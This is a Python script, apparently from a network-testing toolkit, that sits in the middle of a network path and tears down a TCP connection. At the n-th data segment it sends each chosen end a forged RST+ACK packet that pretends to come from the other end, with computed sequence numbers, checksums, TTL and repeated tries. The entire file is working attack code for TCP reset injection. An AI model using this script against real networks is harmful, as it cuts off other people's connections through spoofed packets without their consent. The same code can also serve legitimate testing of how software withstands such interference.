"""
Ends a TCP connection from the middle of the path: at the n-th segment with payload of one direction, each chosen end
gets a RST that pretends to come from the other.

Arguments: near far direction nth offset ttl, then the ends that get it (near, far). The offset is added to the right
sequence number; with 0 an end that shows signs of life gets another one, made of what it has just acknowledged.
"""
# The text of packet.py stands before this one.
RST_ACK = 0x14
TRIES = 20

near, far, direction = sys.argv[1:4]
nth, offset, ttl = (int(one) for one in sys.argv[4:7])
targets = sys.argv[7:]

sockets = {open_device(near): "near", open_device(far): "far"}
socket_of = {end: opened for opened, end in sockets.items()}
sender = "near" if direction == "to-server" else "far"
headers = {}  # the Ethernet header that reaches an end, learned from what the end has sent
victim = None  # the connection, as (address, port) of its two ends
seen = 0
tries = {"near": 0, "far": 0}


def inject(end, source, target, sequence, ack):
    if end not in targets or tries[end] >= (TRIES if offset == 0 else 1):
        return
    tries[end] += 1
    numbers = (sequence + offset) & 0xFFFFFFFF, ack & 0xFFFFFFFF
    tcp = struct.pack("!HHIIBBHHH", source[1], target[1], *numbers, 0x50, RST_ACK, 0, 0, 0)
    pseudo = source[0] + target[0] + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    socket_of[end].send(headers[end] + ip_packet(source[0], target[0], 6, tcp, ttl))


def receive(opened, frame):
    global victim, seen
    end = sockets[opened]
    headers[end] = frame[6:12] + frame[0:6] + frame[12:14]
    segment = Segment(frame)
    if not segment.tcp or segment.syn or segment.rst:
        return
    source, target = (segment.source, segment.source_port), (segment.target, segment.target_port)
    after = segment.sequence + segment.size
    if victim is None:
        seen += end == sender and segment.size > 0
        other = "far" if end == "near" else "near"
        if seen < nth or other not in headers:
            return
        victim = {source, target}
        inject(other, source, target, after, segment.ack)
        inject(end, target, source, segment.ack, after)
    elif victim == {source, target}:
        inject(end, target, source, segment.ack, after)


run(sockets.keys(), receive, lambda: tries)
